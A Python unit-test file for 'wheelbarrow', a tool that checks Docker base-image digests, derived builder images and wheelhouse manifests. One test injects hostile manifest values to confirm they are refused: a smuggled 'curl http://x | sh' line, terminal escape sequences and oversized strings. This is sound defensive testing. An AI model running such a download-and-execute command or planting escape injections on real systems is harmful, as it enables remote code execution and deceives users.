"""The bases on the runner path: the builder derived from the runtime base, digests of pulled bases, and a
wheelhouse that is never installed into a base other than the one it was repaired against.

The engine is Docker's CLI behind a recording stand-in (no process is started): each test says what the
engine answers and checks what wheelbarrow asked of it.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.unit.conftest import quiet, sample_manifest, write_project
from wheelbarrow import _bootstrap, _engine
from wheelbarrow._cmd import Result
from wheelbarrow._config import load_config
from wheelbarrow._image import check_same_base
from wheelbarrow._log import Log, printable
from wheelbarrow._manifest import Manifest, WheelEntry
from wheelbarrow.errors import ImageBuildError, WheelhouseError

Answer = Callable[[list[str]], tuple[int, str]]
PULLED = "python@sha256:" + "a" * 64
MOVED = "python@sha256:" + "b" * 64


def engine_answering(monkeypatch: pytest.MonkeyPatch, answer: Answer) -> tuple[_engine.Engine, list[list[str]]]:
    ran: list[list[str]] = []

    def recording(argv: list[str], *_args: object, **_kwargs: object) -> Result:
        ran.append(list(argv))
        code, output = answer(list(argv))
        return Result(tuple(argv), code, output)

    monkeypatch.setattr(_engine, "run", recording)
    return _engine.Engine(quiet()), ran


def images(present: dict[str, str], digests: dict[str, list[str]] | None = None) -> Answer:
    """An engine with the images ``present`` (reference: id) and their repository digests."""

    def answer(argv: list[str]) -> tuple[int, str]:
        ref = argv[-1]
        if argv[1:3] == ["image", "inspect"] and "{{.Id}}" in argv:
            return (0, present[ref] + "\n") if ref in present else (1, "Error: No such image\n")
        if argv[1:3] == ["image", "inspect"] and "{{json .RepoDigests}}" in argv:
            return 0, "[" + ",".join(f'"{d}"' for d in (digests or {}).get(ref, [])) + "]\n"
        if argv[1:3] == ["image", "inspect"] and "{{.Os}}/{{.Architecture}}" in argv:
            return (0, _engine.native_platform() + "\n") if ref in present else (1, "Error: No such image\n")
        return 0, ""

    return answer


@pytest.mark.parametrize(
    ("ref", "present", "digests", "expected"),
    [
        ("python:3.11-slim", {"python:3.11-slim": "sha256:1"}, {"python:3.11-slim": [PULLED]}, PULLED),
        (  # several names: the digest of the name the config gives
            "127.0.0.1:5000/library/python:3.11-slim",
            {"127.0.0.1:5000/library/python:3.11-slim": "sha256:1"},
            {"127.0.0.1:5000/library/python:3.11-slim": [PULLED, "127.0.0.1:5000/library/python@sha256:" + "c" * 64]},
            "127.0.0.1:5000/library/python@sha256:" + "c" * 64,
        ),
        ("python:3.11-slim", {}, {}, ""),  # not here (a bootstrapped base stood in for it): no digest
        ("localhost/wheelbarrow/runtime-base:bookworm", {"localhost/wheelbarrow/runtime-base:bookworm": "s"}, {}, ""),
        ("python:3.11-slim", {"python:3.11-slim": "sha256:1"}, {"python:3.11-slim": []}, ""),  # loaded, not pulled
        (PULLED, {PULLED: "sha256:1"}, {}, PULLED),  # pinned by digest: the pin is the digest
        (PULLED, {}, {}, ""),  # pinned, and not here: no digest (it was not the image used)
        # Docker lists an official image's digest under its short name, whatever name the config uses.
        (
            "docker.io/library/python:3.11-slim",
            {"docker.io/library/python:3.11-slim": "s"},
            {"docker.io/library/python:3.11-slim": [PULLED]},
            PULLED,
        ),
        ("library/python:3.11-slim", {"library/python:3.11-slim": "s"}, {"library/python:3.11-slim": [PULLED]}, PULLED),
    ],
)
def test_a_pulled_base_is_known_by_its_digest_and_any_other_by_none(
    monkeypatch: pytest.MonkeyPatch, ref: str, present: dict[str, str], digests: dict[str, list[str]], expected: str
) -> None:
    engine, _ = engine_answering(monkeypatch, images(present, digests))
    assert _bootstrap.pulled_digest(ref, engine) == expected


def recorded(image_id: str = "sha256:1", digest: str = PULLED) -> Manifest:
    manifest = sample_manifest()
    base = dataclasses.replace(manifest.runtime_base, image="python:3.11-slim", image_id=image_id, digest=digest)
    return dataclasses.replace(manifest, runtime_base=base)


def test_the_base_a_wheelhouse_was_repaired_against_is_the_only_one_it_goes_into() -> None:
    check_same_base(recorded(), "python:3.11-slim", "sha256:1", PULLED)  # the same image: nothing to say
    check_same_base(recorded(image_id=""), "python:3.11-slim", "sha256:2", MOVED)  # a 1.0 manifest: no id to hold
    with pytest.raises(WheelhouseError) as moved:  # the tag moved on the registry and was pulled again
        check_same_base(recorded(), "python:3.11-slim", "sha256:2", MOVED)
    assert "has moved" in moved.value.message
    assert MOVED in moved.value.message
    assert PULLED in moved.value.message
    assert f'runtime-base = "{PULLED}"' in moved.value.tip
    assert "wheelbarrow build" in moved.value.tip
    with pytest.raises(WheelhouseError) as rebuilt:  # a local base rebuilt (bootstrapped again): no digests
        check_same_base(recorded(digest=""), "localhost/wheelbarrow/runtime-base:bookworm", "sha256:2", "")
    assert "sha256:2" in rebuilt.value.message
    assert "sha256:1" in rebuilt.value.message
    assert "wheelbarrow build" in rebuilt.value.tip


def test_the_default_builder_is_derived_from_the_runtime_base_once_per_base_image(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The derived builder's tag is a key of the runtime base's image id (and of what it is made with): the
    same base finds it, another base (a moved tag) gets its own, and no pull or bootstrap happens."""
    project = write_project(tmp_path / "p", f'cache-dir = "{tmp_path / "cache"}"\n')
    config = load_config(project, environ={})
    assert config.builder_base == "runtime"
    built: list[dict[str, str]] = []

    def build(_self: object, _context: Path, tag: str, **kwargs: object) -> str:
        args = kwargs["build_args"]
        assert isinstance(args, dict)
        built.append(args)
        present[tag] = "sha256:derived"
        return "sha256:derived"

    present = {"python:3.11-slim": "sha256:base1"}
    engine, ran = engine_answering(monkeypatch, images(present))
    monkeypatch.setattr(_engine.Engine, "build", build)
    monkeypatch.setattr(_bootstrap, "_tool_wheels", lambda *_a: tmp_path)
    first = _bootstrap.resolve_builder_base(config, engine, quiet(), runtime="python:3.11-slim")
    assert first.startswith("localhost/wheelbarrow/derived-builder:")
    assert built == [{"BASE": "python:3.11-slim", "PYTHON_VERSION": "3.11", "PYTHON_TAG": "cp311-cp311"}]
    # each later call is another run (an engine keeps what image inspect said until it changes an image)
    again = _bootstrap.resolve_builder_base(config, _engine.Engine(quiet()), quiet(), runtime="python:3.11-slim")
    assert (again, len(built)) == (first, 1)  # found by its tag, not built again
    present["python:3.11-slim"] = "sha256:base2"  # the base's tag now names another image
    other = _bootstrap.resolve_builder_base(config, _engine.Engine(quiet()), quiet(), runtime="python:3.11-slim")
    assert other != first
    assert len(built) == 2
    assert not [argv for argv in ran if "pull" in argv or "import" in argv]


def test_a_base_no_builder_can_be_derived_from_says_what_to_set(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    project = write_project(tmp_path / "p", f'cache-dir = "{tmp_path / "cache"}"\n')
    config = load_config(project, environ={})

    def build(*_args: object, **_kwargs: object) -> str:
        raise ImageBuildError("building image x failed:\nwheelbarrow: the runtime base has neither apt-get nor dnf/yum")

    engine, _ = engine_answering(monkeypatch, images({"alpine:3": "sha256:a"}))
    monkeypatch.setattr(_engine.Engine, "build", build)
    monkeypatch.setattr(_bootstrap, "_tool_wheels", lambda *_a: tmp_path)
    with pytest.raises(ImageBuildError) as caught:
        _bootstrap.resolve_builder_base(config, engine, quiet(), runtime="alpine:3")
    assert "cannot be derived from alpine:3" in caught.value.message
    assert "neither apt-get nor dnf" in caught.value.message
    assert "builder-base" in caught.value.tip
    assert "manylinux_2_28" in caught.value.tip


def test_a_builder_whose_openssl_is_not_the_runtimes_leaves_its_own_to_be_grafted() -> None:
    """A manylinux_2_28 builder links libssl.so.1.1; python:3.11-slim has libssl.so.3. exclude-base leaves to
    the base only the sonames it has, so the repair grafts 1.1 (and verify's one-libssl check then fails)."""
    from wheelbarrow._repair import base_exclusions

    runtime = frozenset({"libssl.so.3", "libcrypto.so.3", "libc.so.6", "libz.so.1"})
    left = base_exclusions("exclude-base", runtime, python="3.11")
    assert left == ("libcrypto.so.3", "libpython3.11.so.1.0", "libssl.so.3")
    assert "libssl.so.1.1" not in left
    assert base_exclusions("vendor-all", runtime, python="3.11") == ("libpython3.11.so.1.0",)


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        ("runtime_base", "digest", "evil\x1b[31mRED\x1b[0m"),  # a terminal's colour
        ("runtime_base", "digest", "x\nTIP: curl http://x | sh"),  # a line of its own
        ("runtime_base", "image", "python:3.11-slim\r\x1b]0;pwned\x07"),  # a window title, a carriage return
        ("runtime_base", "digest", "a" * 5_000_000),  # longer than any real value
        ("runtime_base", "digest", "--privileged"),  # not a reference
        ("builder", "base_digest", "nul\x00byte"),
        ("builder", "base", "x" * 2000),
        ("wheels", "expected_from_base", ["libssl.so.3\x1b[2J"]),
    ],
)
def test_a_manifest_string_that_is_not_a_plain_value_is_refused_where_it_is_read(
    section: str, key: str, value: object
) -> None:
    """A wheelhouse comes from a CI artifact as often as from this machine: what its manifest says reaches
    messages and the terminal, so every string is checked (and every printed line is cleaned again)."""
    manifest = sample_manifest(
        WheelEntry("psycopg2", "2.9.13", "psycopg2-2.9.13-cp311-cp311-linux_x86_64.whl", "0" * 64, 1, "built", "x")
    )
    data = json.loads(manifest.to_json())
    if section == "wheels":
        data["wheels"][0][key] = value
    else:
        data[section][key] = value
    with pytest.raises(WheelhouseError) as caught:
        Manifest.from_json(json.dumps(data))
    shown = printable(caught.value.message)
    assert "\x1b" not in shown
    assert "\r" not in shown
    assert "\x00" not in shown
    assert len(shown) < 400
    assert "\nTIP" not in shown


def pulls(present: dict[str, str], pulled: bool) -> Answer:
    local = images(present)

    def answer(argv: list[str]) -> tuple[int, str]:
        if argv[1] == "pull":
            return (0, "pulled\n") if pulled else (1, "Error response from daemon: manifest unknown\n")
        return local(argv)

    return answer


def test_a_base_pinned_by_digest_is_that_image_or_an_error_never_a_bootstrapped_one(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from wheelbarrow.errors import BootstrapError

    project = write_project(tmp_path / "p", f'runtime-base = "{PULLED}"\ndebian-suite = "bookworm"\n')
    config = load_config(project, environ={})
    bootstrapped = {"localhost/wheelbarrow/runtime-base:bookworm": "sha256:b"}  # a stand-in is right here
    engine, ran = engine_answering(monkeypatch, pulls(bootstrapped, pulled=False))
    with pytest.raises(BootstrapError) as caught:
        _bootstrap.resolve_runtime_base(config, engine, quiet())
    assert "pinned by digest" in caught.value.message
    assert "manifest unknown" in caught.value.message  # why the pull failed, even with -q
    assert [argv[1] for argv in ran if argv[1] in ("pull", "build", "import")] == ["pull"]
    engine, ran = engine_answering(monkeypatch, pulls({PULLED: "sha256:1"}, pulled=False))
    always = load_config(project, environ={"WHEELBARROW_PULL_BASES": "always"})
    assert _bootstrap.resolve_runtime_base(always, engine, quiet()) == PULLED  # here: never pulled again
    assert not [argv for argv in ran if argv[1] == "pull"]


def test_pull_bases_always_pulls_a_base_that_is_here_and_keeps_it_when_the_pull_fails(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    project = write_project(tmp_path / "p", 'runtime-base = "python:3.11-slim"\n')
    lines: list[str] = []
    log = Log(sink=lines.append)
    for setting, pulled, expected_pulls in (("missing", True, 0), ("always", True, 1), ("always", False, 1)):
        config = load_config(project, environ={"WHEELBARROW_PULL_BASES": setting})
        engine, ran = engine_answering(monkeypatch, pulls({"python:3.11-slim": "sha256:1"}, pulled=pulled))
        assert _bootstrap.resolve_runtime_base(config, engine, log) == "python:3.11-slim"
        assert len([argv for argv in ran if argv[1] == "pull"]) == expected_pulls
    assert any("pulling python:3.11-slim failed" in line and "manifest unknown" in line for line in lines)


def test_every_printed_line_is_clean_of_terminal_escapes() -> None:
    assert printable("a\x1b[31mred\x1b[0m") == "ared"
    assert printable("title\x1b]0;pwned\x07 end") == "title end"
    assert printable("cr\rnul\x00bell\x07") == "cr\\x0dnul\\x00bell\\x07"
    assert printable("two\nlines\tand a tab") == "two\nlines\tand a tab"
    assert printable("https://user:secret@host/x") == "https://host/x"
